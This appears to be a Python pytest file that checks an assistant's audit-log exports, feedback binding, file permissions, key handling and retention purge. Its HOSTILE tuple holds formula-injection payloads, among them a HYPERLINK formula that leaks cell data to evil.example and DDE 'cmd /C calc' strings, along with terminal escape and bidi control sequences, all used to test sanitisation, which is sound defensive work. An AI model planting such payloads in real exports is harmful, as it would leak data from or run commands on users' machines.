"""Exports that cannot attack their reader, feedback bound to its answer's user, private
files, a key nobody else knows, a purge a wrong clock cannot run wild (issue 27).

Real SQLite files under tmp_path; the exports run through ``python -m assistant``'s
own entry point.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
import io
import json
import logging
import os
import re
import sqlite3
import stat
from pathlib import Path

import pytest

from assistant.audit.export import csv_cell
from assistant.audit.log import AuditLog
from assistant.audit.store import AuditStore
from assistant.cli.search import main
from assistant.types import Feedback
from tests.support.audit_records import record

HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&D2,"Open the leave policy")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "leave days\x1b]0;PWNED\x07 \x9b2J \u202eevil\u2066 \x85end \u2028x \x00 \x7f",
)
# What must never reach a terminal or a spreadsheet raw: C0 other than LF and TAB
# (and CR inside CSV), DEL, C1, separators, bidi controls.
RAW_CONTROL = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def _export(*argv: str, env: dict[str, str]) -> str:
    out = io.StringIO()
    assert main(list(argv), environ=env, stdout=out) == 0
    return out.getvalue()


def _hostile_log(tmp_path: Path) -> dict[str, str]:
    env = {"ASSISTANT_INDEX": str(tmp_path / "index")}
    log = AuditLog(tmp_path / "index-audit.sqlite3")
    for n, text in enumerate(HOSTILE):
        log.record(record(n, user=text[:20] or "u", question=text, query=text, answer=text))
        log.feedback(
            Feedback(f"r{n:05d}", "2026-11-30T09:01:00+00:00", text[:20] or "u", "down", text, text)
        )
    log.close()
    return env


def test_csv_export_neutralises_formulas_and_controls(tmp_path: Path) -> None:
    """D5: every cell starting with = + - @ TAB CR (or full-width =+-@) starts with '."""
    text = _export("audit", "export", "--csv", env=_hostile_log(tmp_path))
    assert not RAW_CONTROL.search(text.replace("\r\n", "\n"))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 1
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
    assert "'=HYPERLINK(" in text
    assert "\\x1b]0;PWNED\\x07" in text  # visible, not acted on
    assert "2026-11-30T09:00:00+00:00" in cells  # plain cells are unchanged


def test_json_exports_escape_every_control_character(tmp_path: Path) -> None:
    env = _hostile_log(tmp_path)
    for argv in (("audit", "export"), ("feedback", "export"), ("feedback", "export", "--eval")):
        text = _export(*argv, env=env)
        assert text.strip(), argv
        assert not RAW_CONTROL.search(text), argv
        lines = [json.loads(line) for line in text.splitlines()]
        assert HOSTILE[-1] in _strings(lines), argv  # escaped for the terminal, nothing lost


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def test_csv_cell_leaves_numbers_and_plain_text() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell("annual leave") == "annual leave"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell("\ud800x") == "\\ud800x"  # a lone surrogate could not even be written


def test_feedback_only_reaches_the_answers_own_user(tmp_path: Path) -> None:
    """D7: replacing, withdrawing or forging feedback on another's answer stores nothing."""
    db = tmp_path / "audit.sqlite3"
    log = AuditLog(db)
    log.record(record(1, user="ann"))
    log.feedback(Feedback("r00001", "2026-11-30T09:01:00+00:00", "ann", "up"))
    log.feedback(Feedback("r00001", "2026-11-30T09:02:00+00:00", "carol", "down", "x", "=FORGED"))
    log.withdraw("r00001", user="carol")
    log.feedback(Feedback("deadbeef" * 4, "2026-11-30T09:03:00+00:00", "carol", "down", "", "x"))
    assert log.flush()
    rows = AuditStore(db).records()
    assert [(r.record_id, f.user if f else None, f.rating if f else None) for r, f in rows] == [
        ("r00001", "ann", "up")
    ]
    with sqlite3.connect(db) as connection:
        assert connection.execute("SELECT COUNT(*) FROM feedback").fetchone() == (1,)
    log.withdraw("r00001", user="ann")
    log.close()
    assert AuditStore(db).records()[0][1] is None


def test_anonymised_feedback_still_binds_to_its_user(tmp_path: Path) -> None:
    db = tmp_path / "audit.sqlite3"
    log = AuditLog(db, anonymised=True)
    log.record(record(1, user="ann"))
    log.feedback(Feedback("r00001", "2026-11-30T09:02:00+00:00", "carol", "down", "x", "y"))
    log.feedback(Feedback("r00001", "2026-11-30T09:02:00+00:00", "ann", "up"))
    log.close()
    ((stored, feedback),) = AuditStore(db).records()
    assert feedback is not None
    assert feedback.rating == "up"
    assert feedback.user == stored.user != "ann"


def test_the_database_and_its_wal_and_shm_are_private(tmp_path: Path) -> None:
    """D17: created 0600 whatever the umask; an old world-readable one is tightened."""
    old = os.umask(0o022)
    try:
        db = tmp_path / "audit.sqlite3"
        log = AuditLog(db)
        log.record(record(1))
        assert log.flush()
        for name in ("audit.sqlite3", "audit.sqlite3-wal", "audit.sqlite3-shm"):
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
        log.close()
        legacy = tmp_path / "legacy.sqlite3"
        sqlite3.connect(legacy).close()
        legacy.chmod(0o644)
        log = AuditLog(legacy)
        log.record(record(2))
        log.close()
        assert stat.S_IMODE(legacy.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def _planted(tmp_path: Path, mode: int) -> tuple[Path, bytes]:
    db = tmp_path / "a.sqlite3"
    key = bytes.fromhex(f"{1:064x}")
    path = tmp_path / "a.sqlite3.key"
    path.write_text(key.hex(), "ascii")
    path.chmod(mode)
    return db, key


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604])
def test_a_key_others_may_read_is_never_used(
    tmp_path: Path, mode: int, caplog: pytest.LogCaptureFixture
) -> None:
    """D18: a planted or exposed key is refused with a warning; no pseudonym under it."""
    db, key = _planted(tmp_path, mode)
    with caplog.at_level(logging.WARNING, logger="assistant.audit"):
        log = AuditLog(db, anonymised=True)
        log.record(record(1, user="carol"))
        log.close()
    ((stored, _),) = AuditStore(db).records()
    planted = "user-" + hmac.new(key, b"carol", hashlib.sha256).hexdigest()[:24]
    assert stored.user != planted
    assert "carol" not in stored.user
    assert "never used" in caplog.text


def test_a_private_key_of_our_own_is_used(tmp_path: Path) -> None:
    db, key = _planted(tmp_path, 0o600)
    log = AuditLog(db, anonymised=True)
    log.record(record(1, user="carol"))
    log.close()
    ((stored, _),) = AuditStore(db).records()
    assert stored.user == "user-" + hmac.new(key, b"carol", hashlib.sha256).hexdigest()[:24]


def test_a_symlinked_key_is_never_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.key"
    elsewhere.write_text(f"{1:064x}", "ascii")
    elsewhere.chmod(0o600)
    (tmp_path / "a.sqlite3.key").symlink_to(elsewhere)
    log = AuditLog(tmp_path / "a.sqlite3", anonymised=True)
    log.record(record(1, user="carol"))
    log.close()
    ((stored, _),) = AuditStore(tmp_path / "a.sqlite3").records()
    assert stored.user == "unknown"


def test_a_clock_far_ahead_does_not_purge_the_history(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """D19: the purge counts retention from the newest record when the clock is ahead."""
    db = tmp_path / "audit.sqlite3"
    ago = dt.datetime.now(dt.UTC) - dt.timedelta(days=400)
    stamps = [(ago + dt.timedelta(hours=n)).isoformat(timespec="seconds") for n in range(5)]
    old = dt.datetime.now(dt.UTC) - dt.timedelta(days=800)
    log = AuditLog(db)
    log.record(record(0, time=old.isoformat(timespec="seconds")))
    for n, stamp in enumerate(stamps, start=1):
        log.record(record(n, time=stamp))
    log.close()
    with caplog.at_level(logging.WARNING, logger="assistant.audit"):
        AuditLog(db, retention_days=365).close()  # as if the clock had jumped 400 days
    kept = [r.record_id for r, _ in AuditStore(db).records()]
    assert kept == [f"r{n:05d}" for n in range(1, 6)]  # only what was old then too
    assert "ahead of the newest audit record" in caplog.text
